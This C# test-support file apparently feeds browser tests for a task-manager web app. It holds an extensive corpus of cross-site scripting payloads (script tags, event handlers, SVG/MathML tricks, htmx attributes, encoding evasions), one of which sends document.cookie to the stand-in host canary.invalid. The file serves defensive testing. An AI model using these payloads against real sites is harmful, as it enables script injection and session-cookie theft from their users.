namespace TaskManager.Browser.Tests.Support;

/// <summary>
/// Payloads that have an effect when they are interpreted as markup or script: they call <c>xss()</c>, show a dialog, change the
/// document's title, navigate, or send a request to canary.invalid.
/// </summary>
internal static class XssCorpus
{
    /// <summary>A host that must get no request.</summary>
    public const string Canary = "canary.invalid";

    private static readonly string[] Scripts =
    [
        "<script>xss(1)</script>", "<ScRiPt>xss(2)</sCrIpT>", "<script\t>xss(3)</script >", "<script/x>xss(4)</script/x>",
        "<script src=//canary.invalid/5.js></script>",
        "<script type=module>import '//canary.invalid/6.js'</script>", "<scr<script>ipt>xss(7)</scr</script>ipt>",
        "<<script>xss(8)//<</script>", "<script>/*<!--*/xss(9)</script>",
        "<script nonce=x>xss(10)</script>", "<script>alert`11`</script>", "</script><script>prompt(12)</script>",
        "<script\n>\nxss(13)\n</script\n>",
        "<script type=importmap>{\"imports\":{\"htmx.org\":\"//canary.invalid/14.js\"}}</script>",
        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//canary.invalid/15\"]}]}</script>",
    ];

    private static readonly string[] Handlers =
    [
        "<img src=x onerror=xss(20)>", "<IMG SRC=x ONERROR=alert(21)>", "<img/src=x/onerror=xss(22)>", "<img src=\"x\"onerror=\"xss(23)\">",
        "<img src=x:x onerror\n=\nxss(24)>",
        "<image src=x onerror=confirm(25)>", "<body onload=xss(26)>", "<body onpageshow=xss(27)>",
        "<details open ontoggle=xss(28)><summary>more</summary></details>", "<video><source onerror=xss(29)></video>",
        "<audio src onloadstart=xss(30)>", "<input autofocus onfocus=xss(31)>", "<select autofocus onfocus=xss(32)><option>one</select>",
        "<textarea autofocus onfocus=xss(33)></textarea>",
        "<button popovertarget=p34>o</button><div popover id=p34 onbeforetoggle=xss(34)>x</div>",
        "<p style=animation-name:x onanimationstart=xss(35)>x</p>", "<marquee onstart=xss(36)>x</marquee>",
        "<a href=# onmouseenter=xss(37)>here</a>", "<div contenteditable onbeforeinput=xss(38)>x</div>",
        "<x tabindex=1 id=f39 onfocus=xss(39)>x", "<div onpointerover=\"document.title='xss 40'\">x</div>",
        "<style onload=xss(41)></style>", "<link rel=stylesheet href=//canary.invalid/42.css onerror=xss(42)>",
        "<form oninput=xss(43)><input value=x></form>", "<dialog open onclose=xss(44)>x</dialog>",
        "<img src=x onerror=\"fetch('//canary.invalid/45?' + document.cookie)\">", "<img src=x onerror=location='//canary.invalid/46'>",
        "<img srcset=//canary.invalid/47.png>",
    ];

    private static readonly string[] Foreign =
    [
        "<svg onload=xss(50)>", "<svg/onload=xss(51)>", "<svg><script>xss(52)</script></svg>", "<svg><script href=data:,xss(53) /></svg>",
        "<svg><animate onbegin=xss(54) attributeName=x dur=1s>",
        "<svg><a><animate attributeName=href values=javascript:xss(55) /><text y=9>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=xss(56)></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.xss(57)</script>'></iframe></foreignObject></svg>",
        "<svg><use href=//canary.invalid/58.svg#x /></svg>", "<svg><style><img src=x onerror=xss(59)></style></svg>",
        "<svg><image href=//canary.invalid/60.png /></svg>", "<math><mtext><script>xss(61)</script></mtext></math>",
        "<math href=javascript:xss(62)>x</math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=xss(63)></annotation-xml></math>",
        "<math><mi><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=xss(64)>\">",
        "<svg></p><style><a id=\"</style><img src=x onerror=xss(65)>\">",
    ];

    private static readonly string[] Frames =
    [
        "<iframe srcdoc=\"<script>parent.xss(70)</script>\"></iframe>", "<iframe src=javascript:parent.xss(71)></iframe>",
        "<iframe src=//canary.invalid/72></iframe>", "<iframe srcdoc='&lt;img src=x onerror=top.xss(73)&gt;'></iframe>",
        "<object data=//canary.invalid/74></object>", "<object data=javascript:xss(75)></object>", "<embed src=//canary.invalid/76>",
        "<frameset onload=xss(77)><frame src=//canary.invalid/77></frameset>",
        "<portal src=//canary.invalid/78></portal>", "<fencedframe src=//canary.invalid/79></fencedframe>",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:xss(80)", "JaVaScRiPt:alert(81)", "java\tscript:xss(82)", "java\nscript:xss(83)", " javascript:xss(84)",
        "javascript&colon;xss(85)", "&#106;avascript:xss(86)", "&#x6A;avascript&#58;xss(87)",
        "javascript://%0axss(88)", "data:text/html,<script>opener.xss(89)</script>",
        "data:text/html;base64,PHNjcmlwdD54c3MoOTApPC9zY3JpcHQ+", "vbscript:MsgBox(91)", "<a href=javascript:xss(92)>here</a>",
        "<a href=\"&#1;javascript:xss(93)\">here</a>", "<form action=javascript:xss(94)><button>go</button></form>",
        "<button form=actions formaction=//canary.invalid/95>go</button>",
        "<input type=image form=search formaction=javascript:xss(96) src=x>", "//canary.invalid/97", "https://canary.invalid/98",
        "<a href=# ping=//canary.invalid/99>here</a>", "<a target=_blank rel=opener href=//canary.invalid/100>here</a>",
    ];

    private static readonly string[] BreakOuts =
    [
        "\"><script>xss(110)</script>", "'><script>xss(111)</script>", "`><script>xss(112)</script>", "\" onfocus=xss(113) autofocus x=\"",
        "' onfocus=xss(114) autofocus x='", "` onfocus=xss(115) autofocus x=`",
        " onfocus=xss(116) autofocus ", "x onmouseover=xss(117)", "\"/onclick=xss(118)//", "\"><img src=x onerror=xss(119)><p title=\"",
        "&quot;&gt;&lt;script&gt;xss(120)&lt;/script&gt;", "&#34;><svg onload=xss(121)>",
        "</textarea><script>xss(122)</script>", "</title><script>xss(123)</script>", "</style><script>xss(124)</script>",
        "</noscript><img src=x onerror=xss(125)>", "</p></div></li></ol></section><img src=x onerror=xss(126)>",
        "</form><form action=//canary.invalid/127><button>Add</button>", "--><script>xss(128)</script><!--",
        "]]><script>xss(129)</script><![CDATA[", "*/xss(130)/*", "\\\"><img src=x onerror=xss(131)>", "';xss(132)//", "\";xss(133)//",
        "${xss(134)}", "`${xss(135)}`", "</q></p><script>xss(136)</script>", "' style='background:url(//canary.invalid/137)' x='",
    ];

    private static readonly string[] Documents =
    [
        "<base href=//canary.invalid/140/>", "<meta http-equiv=refresh content=\"0;url=//canary.invalid/141\">",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
        "<link rel=stylesheet href=//canary.invalid/143.css>",
        "<link rel=preload as=script href=//canary.invalid/144.js>", "<link rel=dns-prefetch href=//canary.invalid>",
        "<style>@import '//canary.invalid/146.css';</style>", "<style>body{display:none}</style>",
        "<p style=background:url(//canary.invalid/148)>x</p>",
        "<style>[value^=C]{background:url(//canary.invalid/149)}</style>",
        "<meta name=referrer content=unsafe-url><img src=//canary.invalid/150>",
        "<template shadowrootmode=open><script>xss(151)</script></template>", "<plaintext>", "<xmp><script>xss(153)</script></xmp>",
    ];

    private static readonly string[] Htmx =
    [
        "<div hx-get=//canary.invalid/160 hx-trigger=load>x</div>", "<div data-hx-get=/xss/161 data-hx-trigger=load>x</div>",
        "\" hx-get=\"/xss/162\" hx-trigger=\"load\" x=\"", "' hx-post='/xss/163' hx-trigger='load' x='",
        "<p hx-on:htmx:load=xss(164)>x</p>", "<p hx-on::load=xss(165)>x</p>", "<p hx-on:click=xss(166)>x</p>",
        "<p hx-get=/xss/167 hx-trigger=\"load[xss(167)]\">x</p>", "<p hx-get=/xss/168 hx-trigger=load hx-vals='js:{x: xss(168)}'>x</p>",
        "<p hx-get=/xss/169 hx-trigger=load hx-headers='js:{x: xss(169)}'>x</p>", "<p id=toasts hx-swap-oob=true>xss 170</p>",
        "<template hx type=partial hx-target=body><img src=x onerror=xss(171)></template>",
        "<hx-partial hx-target=body>xss 172</hx-partial>",
        "<div hx-sse:connect=//canary.invalid/173>x</div>", "<p hx-delete=/tasks hx-trigger=load>x</p>",
        "<p hx-boost=true><a href=//canary.invalid/175>here</a></p>", "<p hx-get=/xss/176 hx-trigger=\"every 1s\" hx-include=body>x</p>",
        "<meta name=htmx-config content='{\"mode\":\"cors\"}'>", "\"}' hx-get='/xss/178' hx-trigger='load' x='",
        "{\"RequestVerificationToken\": \"x\"}", "\"}, \"x\": \"js:xss(180)",
        "<p hx-config='{\"headers\":{\"x\":\"y\"}}' hx-get=/xss/181 hx-trigger=load>x</p>",
    ];

    private static readonly string[] Mutations =
    [
        "<p id=task-list class=task>xss 190</p>", "<form id=task-form name=attributes><input name=title value='xss 191'></form>",
        "<input name=cookie><input name=attributes><input name=children>", "<a id=toasts><a id=toasts name=body href=xss:193>",
        "<img name=getElementById><img name=querySelector>", "<form id=actions><input name=action><input name=submit></form>",
        "<li id=more hidden><input name=shown value=500></li>", "<section id=tasks data-etag=x hx-get=/xss/197></section>",
        "<noscript><p title=\"</noscript><img src=x onerror=xss(198)>\">",
        "<select><template><img src=x onerror=xss(199)></template></select>", "<table><td><script>xss(200)</script>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss(201)>",
        "<!--><img src=x onerror=xss(202)>-->", "<!-- --!><img src=x onerror=xss(203)>", "<![CDATA[><img src=x onerror=xss(204)>]]>",
        "<?xml x=\"><img src=x onerror=xss(205)>\"?>", "<title><img title=\"</title><script>xss(206)</script>\">",
        "<textarea><p title=\"</textarea><img src=x onerror=xss(207)>\">", "<style><p title=\"</style><img src=x onerror=xss(208)>\">",
        "<option><style></option></select><b><script>xss(209)</script></style>", "<p is=x-y part=x slot=y>xss 210</p>",
    ];

    private static readonly string[] Characters =
    [
        "+ADw-script+AD4-xss(220)+ADw-/script+AD4-", "\uFEFF<script>xss(221)</script>", "<scr\0ipt>xss(222)</script>",
        "<img src=x onerror=xss(223)\0>", "x\u2028<script>xss(224)</script>\u2029", "\u202E>tpircs/<)522(ssx>tpircs<",
        "<\u200Bscript>xss(226)</script>",
        "\uFF1Cscript\uFF1Exss(227)\uFF1C/script\uFF1E", "\u02BA><script>xss(228)</script>",
        "\uD83D\uDE00<img src=x onerror=xss(229)>\uD83D\uDE00", "\uD800<img src=x onerror=xss(230)>", "<img src=x onerror=xss(231)>\uDC00",
        "\\u003cscript\\u003exss(232)\\u003c/script\\u003e",
        "\\x3cscript\\x3exss(233)\\x3c/script\\x3e", "%3Cscript%3Exss(234)%3C/script%3E", "%253Cscript%253Exss(235)%253C/script%253E",
        "&lt;script&gt;xss(236)&lt;/script&gt;", "&amp;lt;script&amp;gt;xss(237)", "<img src=x onerror=\\u0078ss(238)>",
        "<img src=x onerror=&#120;ss(239)>", "<\u017Fcript>xss(240)</\u017Fcript>", "<img src=x onerror=xss(241)\u0085>",
        "<a\fhref=javascript:xss(242)\fonclick=xss(242)>x</a>", "<i\u0301mg src=x onerror=xss(243)>", "\u001B[31m<script>xss(244)</script>",
        "@(xss(245)) @Html.Raw(\"<script>xss(245)</script>\") {{constructor.constructor('xss(245)')()}}",
        "<%= xss(246) %> #{xss(246)} {{{xss}}} [[${xss}]]", "x\r\nSet-Cookie: xss=247\r\n\r\n<script>xss(247)</script>",
        "{\"$ne\": \"<img src=x onerror=xss(248)>\"}",
    ];

    private static readonly string[] Several =
    [
        "'\"`--></title></style></textarea></script><svg onload=xss(250)>//",
        "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+xss(251)//'>",
        "\"'><img src=x onerror=xss(252) hx-get=/xss/252 hx-trigger=load><!--",
        "-->'\"/></sCript><deTailS open x=\">\" ontoggle=(xss)`253`>",
        $"{new string('A', 3000)}<script>xss(254)</script>{new string('B', 3000)}",
        string.Concat(Enumerable.Repeat("<b>", 2000)) + "<img src=x onerror=xss(255)>",
        string.Concat(Enumerable.Repeat("<img src=x onerror=xss(256)>", 300)),
        $"<img src=x title=\"{new string('x', 8000)}\" onerror=xss(257)>",
    ];

    private static readonly string[][] Kinds =
        [Scripts, Handlers, Foreign, Frames, Addresses, BreakOuts, Documents, Htmx, Mutations, Characters, Several];

    /// <summary>All payloads.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Kinds.SelectMany(kind => kind)];

    /// <summary>Some payloads of each kind, for tests that need several requests for each.</summary>
    public static IReadOnlyList<string> SomeOfEachKind { get; } = [.. Kinds.SelectMany(kind => kind.Take(5))];

    /// <summary>
    /// Joins payloads into texts of this length, to save requests: no payload may have an effect, so none can hide another. A payload that
    /// could be an address begins a text.
    /// </summary>
    public static IReadOnlyList<string> Joined(IEnumerable<string> payloads, int mostLength)
    {
        List<string> joined = [];
        foreach (var payload in payloads)
            if (joined.Count > 0 && !MayBeAddress(payload) && joined[^1].Length + payload.Length < mostLength) joined[^1] += " " + payload;
            else joined.Add(payload);
        return joined;
    }

    private static bool MayBeAddress(string payload) =>
        payload.TrimStart() is [var first, ..] && (char.IsAsciiLetter(first) || first is '/' or '&');

    /// <summary>Payloads that are valid e-mail addresses, by quoting.</summary>
    public static IReadOnlyList<string> EmailAddresses { get; } =
    [
        "\"<script>xss(300)</script>\"@example.org", "\"'><svg/onload=xss(301)>\"@example.org", "'onfocus=xss`302`'autofocus=@example.org",
        "{{xss`303`}}`${xss}`@example.org", "x@[<script>xss`304`</script>]",
    ];
}
